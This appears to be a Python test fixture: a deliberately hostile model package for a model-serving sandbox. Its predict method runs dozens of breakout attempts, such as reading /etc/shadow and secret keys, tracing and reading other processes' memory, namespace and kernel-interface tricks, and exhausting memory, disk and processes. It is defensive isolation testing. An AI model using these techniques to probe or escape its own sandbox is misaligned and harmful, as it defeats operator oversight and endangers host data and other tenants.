"""A hostile model, packed as it is: each function is one attack, returns when it worked and raises when it did not.

It knows what it is after from `t`, runs with the standard library alone, and undoes what it did where it worked.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import mmap
import os
import platform
import pty
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "add_key": 248,
        "bpf": 321,
        "io_uring_setup": 425,
        "keyctl": 250,
        "perf_event_open": 298,
        "pidfd_getfd": 438,
        "pidfd_open": 434,
        "userfaultfd": 323,
    },
    "aarch64": {
        "add_key": 217,
        "bpf": 280,
        "io_uring_setup": 425,
        "keyctl": 219,
        "perf_event_open": 241,
        "pidfd_getfd": 438,
        "pidfd_open": 434,
        "userfaultfd": 282,
    },
}[platform.machine()]
NEW_USER, NEW_MOUNTS = 0x10000000, 0x20000
TIOCSTI = 0x5412
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def call(function, *arguments):
    result = function(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def system_call(name, *arguments):
    return call(libc.syscall, NUMBERS[name], *arguments)


def in_a_child(action):
    """What changes the process itself is done in another one."""
    pid = os.fork()
    if pid == 0:
        try:
            action()
            os._exit(0)
        except BaseException:
            os._exit(1)
    if os.waitpid(pid, 0)[1] != 0:
        raise PermissionError("denied in the child")


def read(path):
    with open(path, "rb") as file:
        return file.read()


def open_to_write(path):
    os.close(os.open(path, os.O_WRONLY))


def plant(path):
    with open(path, "w") as file:
        file.write("x")
    os.unlink(path)


def scratch(name):
    return os.path.join(os.environ["TMPDIR"], name)


# -- files ------------------------------------------------------------------------------------------


@attack
def read_the_shadow_file(t):
    read("/etc/shadow")


@attack
def read_the_password_file(t):
    read("/etc/passwd")


@attack
def read_the_secret_key(t):
    assert t["marker"].encode() in read(t["secret_key"])


@attack
def read_the_database(t):
    assert read(t["database"]).startswith(b"SQLite")


@attack
def read_the_sources_of_the_product(t):
    read(t["sources"])


@attack
def list_the_blob_store(t):
    os.listdir(t["blobs"])


@attack
def read_a_sample_of_somebody_else(t):
    assert read(t["foreign_sample"]).startswith(b"\x89PNG")


@attack
def list_the_folders_of_other_replicas(t):
    os.listdir(t["replicas"])


@attack
def list_the_packages_of_other_models(t):
    os.listdir(t["packages"])


@attack
def list_the_hardware(t):
    os.listdir("/sys/devices")


@attack
def learn_the_name_of_the_host(t):
    assert socket.gethostname() == t["host"]


@attack
def reach_a_file_through_a_link(t):
    os.symlink(t["secret_key"], scratch("link"))
    try:
        read(scratch("link"))
    finally:
        os.unlink(scratch("link"))


@attack
def make_a_hard_link_to_a_secret(t):
    os.link(t["secret_key"], t["beside_the_secret"])
    os.unlink(t["beside_the_secret"])


@attack
def read_through_the_root_of_its_parent(t):
    read(f"/proc/{os.getppid()}/root{t['secret_key']}")


@attack
def make_a_file_handle(t):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    call(libc.name_to_handle_at, -100, t["secret_key"].encode(), handle, ctypes.byref(mount), 0)


# -- writing ----------------------------------------------------------------------------------------


@attack
def write_outside_of_scratch(t):
    plant(t["folder"] + "/planted")


@attack
def write_to_the_system(t):
    plant("/usr/planted-by-an-attack")


@attack
def write_to_its_own_root(t):
    plant("/planted-by-an-attack")


@attack
def change_its_own_package(t):
    plant("planted.py")


@attack
def change_its_own_code(t):
    os.chmod("model.py", 0o644)
    open_to_write("model.py")


@attack
def add_to_its_media(t):
    plant(os.path.join(t["media"], "planted"))


@attack
def change_a_sample(t):
    open_to_write(t["sample"])


@attack
def change_the_shim(t):
    open_to_write(sys.modules["__main__"].__file__)


@attack
def change_the_interpreter(t):
    open_to_write(os.__file__)


@attack
def make_a_device(t):
    os.mknod(scratch("device"), 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    try:
        with open(scratch("device"), "rb") as device:
            assert device.read(4) == bytes(4)
    finally:
        os.unlink(scratch("device"))


@attack
def open_the_control_group(t):
    open_to_write(t["control_group"])


@attack
def change_a_setting_of_the_kernel(t):
    open_to_write("/proc/sys/kernel/core_pattern")


# -- processes --------------------------------------------------------------------------------------


@attack
def read_the_environment_of_another_process(t):
    assert t["marker"].encode() in read(f"/proc/{t['victim']}/environ")


@attack
def see_another_process(t):
    assert b"sleep" in read(f"/proc/{t['victim']}/cmdline")


@attack
def signal_another_process(t):
    os.kill(t["victim"], 0)


@attack
def signal_the_executor(t):
    os.kill(t["executor"], 0)


@attack
def take_hold_of_another_process(t):
    os.close(system_call("pidfd_open", t["victim"], 0))


@attack
def trace_another_process(t):
    call(libc.ptrace, 16, t["victim"], None, None)  # PTRACE_ATTACH
    os.waitpid(t["victim"], 0x40000000)
    call(libc.ptrace, 17, t["victim"], None, None)  # PTRACE_DETACH


@attack
def be_traced(t):
    in_a_child(lambda: call(libc.ptrace, 0, 0, 0, 0))


@attack
def read_the_memory_of_another_process(t):
    start = int(read(f"/proc/{t['victim']}/maps").split(b"-")[0], 16)
    with open(f"/proc/{t['victim']}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        assert memory.read(4) == b"\x7fELF"


@attack
def read_another_process_by_system_call(t):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    start = int(read(f"/proc/{t['victim']}/maps").split(b"-")[0], 16)
    found = ctypes.create_string_buffer(4)
    here, there = Vector(ctypes.addressof(found), 4), Vector(start, 4)
    call(libc.process_vm_readv, t["victim"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    assert found.raw == b"\x7fELF"


@attack
def open_the_pipes_of_the_executor(t):
    for number in os.listdir(f"/proc/{t['executor']}/fd"):
        path = f"/proc/{t['executor']}/fd/{number}"
        with contextlib.suppress(OSError):
            if os.readlink(path).startswith("pipe:"):
                os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
                return
    raise PermissionError("no pipe of it can be opened")


@attack
def take_a_file_of_another_process(t):
    handle = system_call("pidfd_open", t["victim"], 0)
    try:
        os.close(system_call("pidfd_getfd", handle, 1, 0))
    finally:
        os.close(handle)


@attack
def take_priority(t):
    in_a_child(lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))


# -- network ----------------------------------------------------------------------------------------


@attack
def connect_over_tcp(t):
    socket.create_connection(("127.0.0.1", t["tcp"]), 2).close()


@attack
def connect_by_the_host_s_own_address(t):
    socket.create_connection((t["address"], t["tcp"]), 2).close()


@attack
def ask_a_name_server(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(2)
        question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x00\x00\x01\x00\x01"
        asker.sendto(question, ("127.0.0.1", t["udp"]))
        assert asker.recv(512).startswith(b"\x12\x34")


@attack
def connect_to_a_unix_socket(t):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(t["unix"])


@attack
def connect_to_a_unix_socket_under_run(t):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(t["run"])


@attack
def connect_to_an_abstract_socket(t):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + t["abstract"])


@attack
def open_a_netlink_socket(t):
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()


@attack
def open_a_packet_socket(t):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


@attack
def open_a_raw_socket(t):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attack
def open_a_socket_to_the_hypervisor(t):
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


# -- the kernel -------------------------------------------------------------------------------------


@attack
def become_a_user_of_this_host(t):
    in_a_child(lambda: os.setuid(0 if os.getuid() == 0 else 1000))


@attack
def run_a_program_with_the_rights_of_root(t):
    done = subprocess.run(
        ["/usr/bin/su", "-s", "/bin/sh", "-c", "true", "root"],
        stdin=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=20,
    )
    if done.returncode:
        raise PermissionError("refused")


@attack
def gain_rights_by_running_programs(t):
    assert libc.prctl(39, 0, 0, 0, 0) == 0  # PR_GET_NO_NEW_PRIVS


@attack
def make_a_user_namespace(t):
    in_a_child(lambda: call(libc.unshare, NEW_USER))


@attack
def make_a_mount_namespace(t):
    in_a_child(lambda: call(libc.unshare, NEW_MOUNTS))


@attack
def mount_a_file_system(t):
    def mount():
        call(libc.unshare, NEW_MOUNTS)
        call(libc.mount, b"x", b"/mnt", b"tmpfs", 0, None)

    in_a_child(mount)


@attack
def enter_another_namespace(t):
    def enter():
        target = os.open(f"/proc/{t['victim']}/ns/uts", os.O_RDONLY)
        call(libc.setns, target, 0)

    in_a_child(enter)


@attack
def change_the_root(t):
    in_a_child(lambda: os.chroot("/tmp"))


@attack
def rename_the_host(t):
    socket.sethostname(socket.gethostname())


@attack
def use_kernel_keys(t):
    system_call("keyctl", 0, -3, 1)


@attack
def add_a_kernel_key(t):
    system_call("add_key", b"user", b"samplecase-attack", b"x", 1, -2)


@attack
def use_bpf(t):
    attributes = (ctypes.c_uint * 32)(2, 4, 4, 1)  # an array of one number
    os.close(system_call("bpf", 0, attributes, ctypes.sizeof(attributes)))


@attack
def use_io_uring(t):
    os.close(system_call("io_uring_setup", 4, ctypes.create_string_buffer(120)))


@attack
def open_a_performance_counter(t):
    attributes = (ctypes.c_uint * 32)(1, 128)  # a clock in software
    os.close(system_call("perf_event_open", attributes, 0, -1, -1, 0))


@attack
def open_a_userfaultfd(t):
    os.close(system_call("userfaultfd", 1))


@attack
def type_into_a_terminal(t):
    mine, others = pty.openpty()
    try:
        fcntl.ioctl(others, TIOCSTI, b"x")
    finally:
        os.close(mine)
        os.close(others)


# -- using it all up --------------------------------------------------------------------------------


@attack
def fork_past_the_limit(t):
    children = []
    try:
        for _ in range(t["processes"] + 40):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)


@attack
def write_one_large_file(t):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    fill(os.environ["TMPDIR"], t["disk"] * 2, t["disk"] * 2)


@attack
def fill_the_scratch_folder(t):
    fill(os.environ["TMPDIR"], t["disk"] // 4, t["disk"] * 2)


@attack
def fill_the_temporary_folder(t):
    fill("/tmp", t["disk"] // 4, t["disk"] * 2)


@attack
def fill_the_shared_memory(t):
    fill("/dev/shm", t["disk"] // 4, t["disk"] * 2)


def fill(folder, size, total):
    with tempfile.TemporaryDirectory(dir=folder) as inner:
        for number in range(total // size):
            with open(os.path.join(inner, str(number)), "wb") as file:
                file.write(bytes(size))


@attack
def allocate_past_the_limit(t):
    mmap.mmap(-1, t["memory"] * 2, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS).close()


def touch(memory):
    for place in range(0, len(memory), mmap.PAGESIZE):
        memory[place] = 1


@attack
def share_memory_past_the_limit(t):
    memory = mmap.mmap(-1, t["memory"] * 3 // 2)
    touch(memory)
    time.sleep(2)
    memory.close()


@attack
def allocate_past_the_limit_in_several_processes(t):
    def take():
        held = mmap.mmap(-1, t["memory"] // 2, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        touch(held)
        time.sleep(2)
        held.close()

    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            take()
            os._exit(0)
        children.append(pid)
    for pid in children:
        if os.waitpid(pid, 0)[1]:
            raise MemoryError("a child was ended")


@attack
def hold_memory_in_files_without_a_name(t):
    os.close(os.memfd_create("x"))


@attack
def hold_memory_of_system_v(t):
    number = call(libc.shmget, 0, 1024 * 1024, 0o1600)
    call(libc.shmctl, number, 0, None)


@attack
def hold_memory_in_message_queues(t):
    number = call(libc.msgget, 0, 0o1600)
    call(libc.msgctl, number, 0, None)


@attack
def make_files_without_end(t):
    """They are empty, and the kernel keeps about a kilobyte of each."""
    with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
        for number in range(t["memory"] * 3 // 2 // 1024):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
        time.sleep(2)


def outcome(name, targets):
    try:
        ATTACKS[name](targets)
    except (OSError, AssertionError, MemoryError, ValueError, subprocess.SubprocessError) as error:
        return {"worked": False, "why": repr(error)}
    return {"worked": True, "why": ""}


class Model:
    def predict(self, image_paths, attack, targets):
        return {"out": [self.attempt(*each) for each in zip(image_paths, attack, targets)]}

    def attempt(self, path, name, targets):
        if name not in ATTACKS:  # asked with a made-up text when it is deployed
            return {}
        return outcome(name, {**targets, "sample": path, "media": os.path.dirname(path)})
